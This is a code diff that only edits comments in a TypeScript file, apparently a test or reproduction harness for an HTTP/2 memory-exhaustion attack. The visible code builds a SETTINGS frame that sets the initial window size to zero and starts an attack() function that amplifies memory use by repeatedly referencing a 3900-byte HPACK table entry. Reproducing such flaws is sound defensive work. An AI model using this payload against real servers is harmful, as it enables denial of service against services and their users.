@@ -15,10 +15,13 @@ const STREAMS = 128;
 /** As in the first line of main.ts. */
 const FLAGS = ["--min-semi-space-size=8", "--max-semi-space-size=8"];
 const MEGABYTE = 1024 * 1024;
-/** SETTINGS_INITIAL_WINDOW_SIZE of 0. */
+/** A SETTINGS frame that sets SETTINGS_INITIAL_WINDOW_SIZE to 0. */
 const NO_WINDOW = frameBytes(frame.settings, 0, 0, Buffer.from([0, 4, 0, 0, 0, 0]));
 
-/** A field of 3900 bytes is added to the HPACK table; each following byte 0xbe refers to it again. */
+/**
+ * The bytes that one connection sends: the first request adds a field of 3900 bytes to the HPACK table, and each byte
+ * 0xbe in the others refers to this field.
+ */
 function attack(): Buffer {
   const request = block([
     [":method", "GET"],
